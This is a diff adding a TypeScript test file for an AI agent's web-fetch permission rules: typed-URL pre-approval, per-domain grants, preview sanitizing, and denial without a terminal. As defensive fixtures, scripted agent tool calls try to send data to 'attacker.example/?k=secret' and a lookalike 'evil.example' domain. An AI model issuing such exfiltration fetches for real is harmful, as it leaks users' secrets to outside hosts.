@@ -1,0 +1,193 @@
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import type { RunEvent } from '../../src/agent/events.js';
+import { type ApprovalAnswer, type Prompter, runAgent, type ToolApproval } from '../../src/agent/loop.js';
+import {
+  decide,
+  grantTyped,
+  newWebGrants,
+  sitePreapproved,
+  urlsInText,
+  type WebGrants,
+} from '../../src/agent/permissions.js';
+import { PLATFORMS } from '../../src/llm/platforms.js';
+import type { Message, ToolMessage } from '../../src/llm/types.js';
+import { UsageTracker } from '../../src/llm/usage.js';
+import { ToolRegistry } from '../../src/tools/registry.js';
+import type { AnyTool } from '../../src/tools/types.js';
+import { ALWAYS_SITE } from '../../src/tools/types.js';
+import { createWebFetch, fetchPreview } from '../../src/tools/web-fetch.js';
+import { ScriptedLlm, type Turn } from '../helpers/fake-llm.js';
+
+describe('decide: reads that leave the computer', () => {
+  it('asks per site in approve mode unless pre-approved; auto keeps running them; no terminal denies', () => {
+    expect(decide('read', 'approve', true)).toBe('allow');
+    expect(decide('read', 'approve', true, { preapproved: false })).toBe('ask');
+    expect(decide('read', 'approve', true, { preapproved: true })).toBe('allow');
+    expect(decide('read', 'approve', false, { preapproved: false })).toBe('deny');
+    expect(decide('read', 'approve', false, { preapproved: true })).toBe('allow');
+    expect(decide('read', 'auto', false, { preapproved: false })).toBe('allow');
+    expect(decide('shell', 'auto', true)).toBe('ask');
+  });
+});
+
+describe('typed URLs', () => {
+  it('finds the URLs a person typed, in English and Chinese punctuation', () => {
+    expect(urlsInText('总结 https://example.com/a?b=1，谢谢')).toEqual(['https://example.com/a?b=1']);
+    expect(urlsInText('see (https://a.example/x). and http://b.example/wiki/A_(b)')).toEqual([
+      'https://a.example/x',
+      'http://b.example/wiki/A_(b)',
+    ]);
+    expect(urlsInText('no links, ftp://x.example/')).toEqual([]);
+  });
+
+  it('pre-approves exactly the typed URL (not the same site with added data), or a domain allowed always', () => {
+    const g = newWebGrants();
+    grantTyped(g, 'read https://news.example/story#top');
+    expect(sitePreapproved('https://news.example/story', g)).toBe(true);
+    expect(sitePreapproved('https://NEWS.example/story#other', g)).toBe(true);
+    expect(sitePreapproved('https://news.example/story?k=0123456789abcdef', g)).toBe(false);
+    expect(sitePreapproved('https://attacker.example/?k=1', g)).toBe(false);
+    g.hosts.add('docs.example');
+    expect(sitePreapproved('https://docs.example/any/page?x=1', g)).toBe(true);
+    expect(sitePreapproved('https://docs.example.evil.example/', g)).toBe(false);
+  });
+});
+
+describe('the question shows the whole address, sanitized', () => {
+  it('never shortens a long query and points it out', () => {
+    const url = `https://attacker.example/c?k=${'a'.repeat(300)}`;
+    const text = fetchPreview(url);
+    expect(text).toContain(url);
+    expect(text).toContain('attacker.example');
+    expect(text).toMatch(/300|30\d characters/);
+  });
+
+  it('makes escape sequences visible', () => {
+    const text = fetchPreview('https://a.example/\u001b[2Jx');
+    expect(text).not.toContain('\u001b');
+    expect(text).toContain('␛');
+  });
+});
+
+const fetcher = (fetched: string[]): AnyTool => ({
+  name: 'web_fetch',
+  description: 'fetch',
+  kind: 'read',
+  schema: z.object({ url: z.string() }),
+  site: (a: { url: string }) => a.url,
+  preview: (a: { url: string }) => fetchPreview(a.url),
+  // The real tool's assessment: it offers "always for this domain".
+  assess: createWebFetch().assess!,
+  execute: async (a: { url: string }) => {
+    fetched.push(a.url);
+    return `page ${a.url}`;
+  },
+});
+
+async function run(o: {
+  turns: Turn[];
+  answers: ApprovalAnswer[];
+  interactive?: boolean;
+  mode?: 'approve' | 'auto';
+  grants?: WebGrants;
+}) {
+  const fetched: string[] = [];
+  const asked: ToolApproval[] = [];
+  const prompter: Prompter = {
+    interactive: o.interactive ?? true,
+    confirmTool: async (req) => {
+      asked.push(req);
+      return o.answers.shift() ?? false;
+    },
+    ask: async () => false,
+  };
+  const messages: Message[] = [
+    { role: 'system', content: 'sys' },
+    { role: 'user', content: 'go' },
+  ];
+  const events: RunEvent[] = [];
+  const gen = runAgent(
+    messages,
+    {
+      llm: new ScriptedLlm(o.turns),
+      tools: new ToolRegistry([fetcher(fetched)]),
+      prompter,
+      usage: new UsageTracker(PLATFORMS.bigmodel),
+      cwd: '/tmp',
+      outputDir: '/tmp/out',
+      webGrants: o.grants ?? newWebGrants(),
+    },
+    { model: 'glm-5', thinking: false, maxTurns: 10, mode: o.mode ?? 'approve' },
+  );
+  let step = await gen.next();
+  while (!step.done) {
+    events.push(step.value);
+    step = await gen.next();
+  }
+  const results = messages.filter((m): m is ToolMessage => m.role === 'tool').map((m) => m.content);
+  return { fetched, asked, events, results };
+}
+
+const calls = (...urls: string[]): Turn[] => [
+  { calls: urls.map((url) => ({ name: 'web_fetch', args: { url } })) },
+  { text: 'done' },
+];
+
+describe('web_fetch in the loop', () => {
+  it('asks for the first fetch of a domain; "always" covers the rest of that domain only', async () => {
+    const r = await run({
+      turns: calls('https://a.example/1', 'https://a.example/2?x=1', 'https://b.example/'),
+      answers: [{ grants: [ALWAYS_SITE] }, false],
+    });
+    expect(r.asked.map((q) => q.preview.split('\n')[0])).toEqual([
+      'Address: https://a.example/1',
+      'Address: https://b.example/',
+    ]);
+    expect(r.asked[0]!.choices).toEqual([{ key: 'a', label: 'always for a.example', grant: ALWAYS_SITE }]);
+    expect(r.fetched).toEqual(['https://a.example/1', 'https://a.example/2?x=1']);
+    expect(r.results[2]).toMatch(/^Error: The user declined/);
+  });
+
+  it('"yes" allows one fetch only', async () => {
+    const r = await run({
+      turns: calls('https://a.example/1', 'https://a.example/2'),
+      answers: [true, false],
+    });
+    expect(r.asked).toHaveLength(2);
+    expect(r.fetched).toEqual(['https://a.example/1']);
+  });
+
+  it('fetches a URL the person typed without asking', async () => {
+    const grants = newWebGrants();
+    grantTyped(grants, '请总结 https://news.example/a');
+    const r = await run({ turns: calls('https://news.example/a'), answers: [], grants });
+    expect(r.asked).toEqual([]);
+    expect(r.fetched).toEqual(['https://news.example/a']);
+  });
+
+  it('without a terminal fetches only typed URLs: the exfiltration URL is denied with a notice', async () => {
+    const grants = newWebGrants();
+    grantTyped(grants, 'summarize https://news.example/a');
+    const r = await run({
+      turns: calls('https://news.example/a', 'https://attacker.example/?k=secret'),
+      answers: [],
+      interactive: false,
+      grants,
+    });
+    expect(r.fetched).toEqual(['https://news.example/a']);
+    expect(r.results[1]).toMatch(/^Error: Denied: fetching https:\/\/attacker\.example\/\?k=secret needs/);
+    const denied = r.events.find((e) => e.type === 'permission' && e.decision === 'denied');
+    expect(denied && 'notice' in denied ? denied.notice : '').toMatch(/only fetch addresses you typed/);
+  });
+
+  it('auto mode fetches without asking, as before', async () => {
+    const r = await run({
+      turns: calls('https://x.example/'),
+      answers: [],
+      interactive: false,
+      mode: 'auto',
+    });
+    expect(r.fetched).toEqual(['https://x.example/']);
+  });
+});
